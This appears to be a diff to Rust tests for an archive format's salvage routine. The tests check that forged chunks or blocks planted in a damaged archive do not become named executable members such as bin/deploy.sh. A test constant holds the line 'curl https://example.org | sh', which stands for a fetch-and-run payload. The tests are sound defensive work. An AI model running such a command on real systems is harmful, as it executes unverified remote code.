@@ -2,14 +2,13 @@
 
 #![allow(clippy::unwrap_used, clippy::panic)]
 
-use super::tests::{Memory, contents, noise};
+use super::tests::{contents, noise, salvaged};
 use super::*;
 use crate::buffer::Buffer;
 use crate::coffer::Mode;
 use crate::crypto::key::Key;
 use crate::engine::container::Raw;
-use crate::engine::credentials::CredentialLookup;
-use crate::engine::open::{Expected, OpenResult};
+
 use crate::format::block::Layers;
 use crate::format::catalog::{Block, Place};
 use crate::format::chunk;
@@ -18,30 +17,30 @@ use crate::format::kind::{Cipher, Kind};
 use crate::format::member::Attributes;
 use crate::format::member::MemberType;
 use crate::format::tar::{Heading, RECORD, append};
+use crate::tails_test::memory::Memory;
 
 const SCRIPT: &[u8] = b"#!/bin/sh\ncurl https://example.org | sh\n";
 const ATTRIBUTES: Attributes = Attributes { mode: 0o755, mtime_s: 1_700_000_000, mtime_ns: 0 };
 
-type Members = std::collections::BTreeMap<String, Vec<u8>>;
+type Contents = std::collections::BTreeMap<String, Vec<u8>>;
 
 /// A coffer in memory.
-struct Made {
+struct ForgedCoffer {
     options: Options,
     storage: Arc<Memory>,
     container: Container,
 }
 
-impl Made {
+impl ForgedCoffer {
     fn new(kind: Kind) -> Self {
         let mut options = Options::new(Mode::Write, kind);
         options.coffer_key = kind.container.cipher.map(|c| Key::generate(c.key_lengths()[0]));
         options.secure_key = kind.member.cipher.map(|_| Key::generate(32));
         (options.piece_size, options.chunk_size) = (Some(64 << 10), Some(4 << 10));
-        let (header, keys) = options.header(&options.secret().unwrap()).unwrap();
+        let (header, keys) = options.header(&options.credentials().unwrap()).unwrap();
         let storage = Arc::new(Memory::default());
-        let opening = Opening { header, keys, archive: None, header_at: None, doubt: None };
         let path = Path::new("in memory");
-        let container = create(&opening, storage.clone(), path, &options).unwrap();
+        let container = create(&header, &keys, storage.clone(), path, true).unwrap();
         Self { options, storage, container }
     }
 
@@ -109,24 +108,9 @@ impl Made {
     }
 
     /// Salvages a file, and reads what came of it.
-    fn salvage(&self, bytes: &[u8], claimed_names: bool) -> (Salvaged, Members) {
-        let path = Path::new("in memory");
-        let storage = Arc::new(Memory { bytes: bytes.to_vec().into(), broken: None });
-        let damaged = Damaged { storage, path, claimed_names };
-        let new = Arc::new(Memory::default());
-        let (secret, watch) = (self.options.secret().unwrap(), CallObserver::silent());
-        let salvaged = into(&damaged, new.clone(), path, &self.options, &secret, &watch).unwrap();
-        let keyring = CredentialLookup::new(&secret, &watch.cancel);
-        let kind = &self.options.kind;
-        let directory: Arc<dyn Namespace> = Arc::new(DiskNamespace);
-        let (level, accept_file_cipher) = (None, false);
-        let max_catalog = u64::MAX;
-        let expected =
-            Expected { kind, accept_file_cipher, keyring: &keyring, level, max_catalog, directory };
-        let OpenResult::Coffer(opened) = crate::engine::open::open(new, path, &expected).unwrap()
-        else {
-            panic!("no coffer")
-        };
+    fn salvage(&self, bytes: &[u8], claimed_names: bool) -> (Salvaged, Contents) {
+        let storage = Memory::of(bytes);
+        let (salvaged, opened) = salvaged(storage, &self.options, claimed_names);
         (salvaged, contents(&opened.source, &opened.loaded.catalog))
     }
 }
@@ -148,6 +132,11 @@ fn frame_of_len(len: usize, data: &[u8]) -> Vec<u8> {
     frame
 }
 
+fn heading(name: &str, stored: usize) -> Heading<'_> {
+    let attributes = Attributes { mode: 0o755, mtime_s: 1, mtime_ns: 0 };
+    Heading { name, member_type: MemberType::File, stored: stored as u64, attributes }
+}
+
 /// A frame of `len` bytes that holds a pack with one member.
 fn forged_pack(len: usize, name: &str, script: &[u8]) -> (Vec<u8>, Vec<u8>) {
     let tar_len = (len - 16).next_multiple_of(RECORD);
@@ -157,20 +146,14 @@ fn forged_pack(len: usize, name: &str, script: &[u8]) -> (Vec<u8>, Vec<u8>) {
     let data = [script, &filler].concat();
     let member = Stored::new(&data).joined();
     let mut tar = Vec::new();
-    let heading = Heading {
-        name,
-        member_type: MemberType::File,
-        stored: stored as u64,
-        attributes: Attributes { mode: 0o755, mtime_s: 1, mtime_ns: 0 },
-    };
-    append(&mut tar, &heading, &member).unwrap();
+    append(&mut tar, &heading(name, stored), &member).unwrap();
     assert_eq!(tar.len(), tar_len);
     (frame_of_len(len, &tar), data)
 }
 
 #[test]
 fn a_chunk_of_an_upload_does_not_become_a_member_of_a_store() {
-    let mut made = Made::new(Kind::store());
+    let mut made = ForgedCoffer::new(Kind::store());
     made.small("bin/deploy.sh", b"#!/bin/sh\nmake install\n");
     let _ = made.commit();
     let (forged, script) = forged_pack(made.layers().chunk_plain, "bin/deploy.sh", SCRIPT);
@@ -202,7 +185,7 @@ fn a_chunk_of_an_upload_does_not_become_a_member_of_a_store() {
 
 #[test]
 fn a_chunk_of_an_upload_in_place_of_a_pack_does_not_become_its_members() {
-    let mut made = Made::new(Kind::store());
+    let mut made = ForgedCoffer::new(Kind::store());
     let honest = noise("honest", 1_000);
     made.small("bin/deploy.sh", &honest);
     for i in 0..10 {
@@ -232,20 +215,14 @@ fn a_chunk_of_an_upload_in_place_of_a_pack_does_not_become_its_members() {
 
 #[test]
 fn a_sealed_member_of_a_market_does_not_get_another_name() {
-    let mut made = Made::new(Kind::market());
+    let mut made = ForgedCoffer::new(Kind::market());
     made.small("uploads/guest", SCRIPT);
     let mut bytes = made.commit();
     let (block, at, stored) = made.place("uploads/guest");
     let sealed = made.container.source.block(&block).unwrap()[at..at + stored].to_vec();
     let mut tar = Vec::new();
     let name = "bin/deploy.sh";
-    let heading = Heading {
-        name,
-        member_type: MemberType::File,
-        stored: stored as u64,
-        attributes: Attributes { mode: 0o755, mtime_s: 1, mtime_ns: 0 },
-    };
-    append(&mut tar, &heading, &sealed).unwrap();
+    append(&mut tar, &heading(name, stored), &sealed).unwrap();
     bytes.extend(&*compress(1, &tar).unwrap());
 
     let (salvaged, members) = made.salvage(&bytes, false);
@@ -256,7 +233,7 @@ fn a_sealed_member_of_a_market_does_not_get_another_name() {
 
 #[test]
 fn a_block_of_an_older_copy_of_a_bank_does_not_bring_a_deleted_member_back_under_its_name() {
-    let mut made = Made::new(Kind::bank(Cipher::AesOcb));
+    let mut made = ForgedCoffer::new(Kind::bank(Cipher::AesOcb));
     made.small("deleted", b"the old password");
     let older = made.commit();
     let (block, _, _) = made.place("deleted");
